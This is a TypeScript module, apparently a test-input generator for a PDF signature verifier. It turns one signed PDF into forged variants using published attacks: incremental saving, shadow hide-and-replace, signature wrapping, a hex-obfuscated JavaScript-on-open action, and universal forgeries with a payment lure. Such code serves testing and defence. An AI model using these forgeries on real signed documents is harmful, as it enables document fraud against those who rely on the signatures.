import { openPdf } from '../../../infrastructure/pdf/document.ts';
import { isArray, isReference, type PdfObject } from '../../../infrastructure/pdf/objects.ts';
import { baseOf, createUpdate } from '../../../infrastructure/pdf/update.ts';

/**
 * Published attacks on signed PDFs: incremental saving and signature wrapping (Mladenov et al., CCS 2019), shadow
 * attacks (Mainka et al., NDSS 2021), attacks on certified documents (Rohlmann et al., IEEE S&P 2021).
 */
export interface Attack {
  readonly name: string;
  readonly forged: Buffer;
}

const LURE = 'BT /F1 24 Tf 72 600 Td (PAY 9 000 000 MNT TO MALLORY) Tj ET';
const lureStream = Buffer.from(`<</Length ${LURE.length}>>\nstream\n${LURE}\nendstream`);

/** The signed file with an incremental update of these objects; a number is replaced, a name added. */
function updated(signed: Buffer, objects: Readonly<Record<number, string>>): Buffer {
  const update = createUpdate(baseOf(openPdf(signed)));
  for (const [number, content] of Object.entries(objects)) {
    const reference = { kind: 'reference', number: Number(number), generation: 0 } as const;
    update.put(reference, Buffer.from(content));
  }
  return Buffer.concat([signed, update.finish().bytes]);
}

/** Number of the contents of the first page. */
function contentsOf(signed: Buffer): { readonly page: number; readonly contents: number } {
  const { catalog, dictionary, value } = openPdf(signed);
  const kids = value(dictionary(catalog.entries.get('Pages'))?.entries.get('Kids'));
  const page = isArray(kids) ? kids[0] : undefined;
  const contents = dictionary(page)?.entries.get('Contents');
  return { page: numberOf(page), contents: numberOf(contents) };
}

function numberOf(object: PdfObject | undefined): number {
  if (object === undefined || !isReference(object)) throw new Error('Not a reference.');
  return object.number;
}

function replacing(signed: Buffer, from: RegExp, to: string): Buffer {
  const text = signed.toString('latin1');
  if (!from.test(text)) throw new Error(`The signed file has no ${String(from)}.`);
  return Buffer.from(text.replace(from, to), 'latin1');
}

/** All attacks on one signed file whose first page has contents and the font F1. */
export function attacksOn(signed: Buffer): readonly Attack[] {
  const { page, contents } = contentsOf(signed);
  const added = (name: string, bytes: string | Buffer): Attack => ({
    name,
    forged: Buffer.concat([signed, Buffer.from(bytes)]),
  });
  const saved = (name: string, objects: Readonly<Record<number, string>>): Attack => ({
    name,
    forged: updated(signed, objects),
  });
  const wrapped = (name: string, forged: Buffer): Attack => ({ name, forged });
  const lure = `${contents} 0 obj\n${lureStream.toString()}\nendobj\n`;
  const overlay = `<</Type/Annot/Subtype/FreeText/Rect[50 550 500 700]/Contents(MALLORY)/DA(/F1 24 Tf)>>`;
  const signature = /\/Type\s*\/Sig\b[^]*?\/ByteRange\[[^\]]*\]/.exec(
    signed.toString('latin1'),
  )?.[0];
  return [
    saved('incremental saving: the page contents replaced', { [contents]: lureStream.toString() }),
    added(
      'incremental saving without cross-references',
      `\n${lure}trailer\n<</Root 1 0 R>>\n%%EOF\n`,
    ),
    added('incremental saving with nothing but a body', `\n${lure}`),
    added(
      'incremental saving that copies the signature',
      `\n${lure}900 0 obj\n<<${signature ?? ''}>>\nendobj\n%%EOF\n`,
    ),
    added('bytes behind the end', '\n% MALLORY\n'),
    added('one more end marker', '%%EOF\n'),
    saved('shadow, hide: an overlay over the contents', {
      [page]: `<</Type/Page/Parent 2 0 R/Contents[${contents} 0 R 901 0 R]>>`,
      901: lureStream.toString(),
    }),
    saved('shadow, replace: another font', {
      5: '<</Type/Font/Subtype/Type3/Encoding<</Differences[65/M]>>>>',
    }),
    saved('shadow, replace: the value of a form field', {
      902: '<</FT/Tx/T(amount)/V(9 000 000)/Subtype/Widget/Rect[50 550 500 700]>>',
    }),
    saved('shadow, hide and replace: another page tree', {
      2: `<</Type/Pages/Kids[903 0 R]/Count 1/MediaBox[0 0 595 842]>>`,
      903: `<</Type/Page/Parent 2 0 R/Contents 904 0 R/Resources<<>>>>`,
      904: lureStream.toString(),
    }),
    saved('evil annotation', { 905: overlay }),
    saved('sneaky signature', {
      906: '<</FT/Sig/T(Sneaky)/Subtype/Widget/Rect[50 550 500 700]/AP<</N 907 0 R>>>>',
      907: lureStream.toString(),
    }),
    saved('a script that runs on opening', { 908: '<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
    wrapped(
      'signature wrapping: the signed part moved behind other objects',
      replacing(signed, /\/ByteRange\[(\d+) (\d+) /, `/ByteRange[$1 $2 /Pad(${'x'.repeat(20)})`),
    ),
    wrapped('universal forgery: no byte range', replacing(signed, /\/ByteRange\[/, '/ByteRangX[')),
    wrapped('universal forgery: no contents', replacing(signed, /\/Contents<30/, '/Contents<00')),
  ];
}
